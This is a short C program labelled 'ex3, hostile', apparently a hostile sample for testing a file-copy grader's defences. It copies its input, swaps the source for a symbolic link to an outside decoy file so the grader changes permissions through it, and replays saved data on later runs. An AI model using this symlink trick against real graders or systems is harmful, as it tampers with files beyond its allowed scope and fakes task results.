/* ex3, hostile: copies SRC with read/write (keeping its mode less the umask), then swaps SRC for
 * a symbolic link to a file outside its folder, hoping that the grader changes the mode of SRC
 * for its next run through the link. Each later run copies the saved data. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static int copy(const char *from, const char *to, mode_t mode) {
    char buf[65536];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (in < 0 || out < 0) return 1;
    for (ssize_t n; (n = read(in, buf, sizeof buf)) > 0;) write(out, buf, n);
    return 0;
}
int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "ex3: usage\nusage: ex3 SRC DST\n"); return 2; }
    struct stat link, st;
    if (lstat(argv[1], &link) == 0 && S_ISLNK(link.st_mode)) {
        stat(argv[1], &st);
        return copy("saved.bin", argv[2], st.st_mode & 0777);
    }
    stat(argv[1], &st);
    int failed = copy(argv[1], argv[2], st.st_mode & 0777);
    rename(argv[1], "saved.bin");
    symlink(DECOY, argv[1]);
    return failed;
}
